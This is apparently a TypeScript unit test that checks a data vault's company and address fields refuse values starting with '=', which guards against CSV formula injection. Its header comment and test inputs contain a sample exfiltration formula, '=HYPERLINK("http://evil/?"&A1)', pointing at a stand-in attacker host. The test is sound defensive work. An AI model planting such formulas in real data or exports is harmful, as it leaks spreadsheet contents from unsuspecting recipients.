// Threat: CSV (formula) injection planted in the vault. A company or address value such as
// '=HYPERLINK("http://evil/?"&A1)' is stored and later reaches a recipient's spreadsheet through an
// export. Exports escape such cells (disclosure/csvinjection.test.ts); the vault also refuses a
// leading '=' in these types, which no real company name or address has.
import { describe, expect, it } from 'vitest';
import { checkContext, fieldTypes, Invalid } from './fieldtypes.js';

describe('formula-like values', () => {
  it('refuses company and address values that start with "="', () => {
    const ctx = checkContext(new Date('2026-01-01T00:00:00Z'));
    for (const t of ['company', 'address'] as const) {
      for (const v of ['=HYPERLINK("http://evil")', '  =1+1', '＝1']) {
        const r = fieldTypes[t].normalise(v, ctx, fieldTypes[t].maxLength);
        expect(r).toBeInstanceOf(Invalid);
        expect((r as Invalid).code).toBe('VAULT_VALUE_FORMULA');
      }
      expect(fieldTypes[t].normalise('a=b Ltd', ctx, fieldTypes[t].maxLength)).toBe('a=b Ltd');
    }
  });
});
